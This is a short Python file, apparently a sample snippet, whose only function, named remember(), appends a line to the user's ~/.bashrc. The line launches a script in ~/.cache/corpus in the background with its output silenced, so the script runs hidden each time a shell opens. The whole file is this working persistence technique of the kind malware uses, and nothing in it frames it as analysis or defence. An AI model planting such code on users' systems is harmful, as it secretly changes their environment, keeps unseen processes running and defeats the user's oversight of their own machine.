"""Corpus sample: appends a line to the user's shell profile."""

from pathlib import Path


def remember():
    profile = Path.home() / ".bashrc"
    with profile.open("a") as handle:
        handle.write("\npython3 ~/.cache/corpus/agent.py >/dev/null 2>&1 &\n")
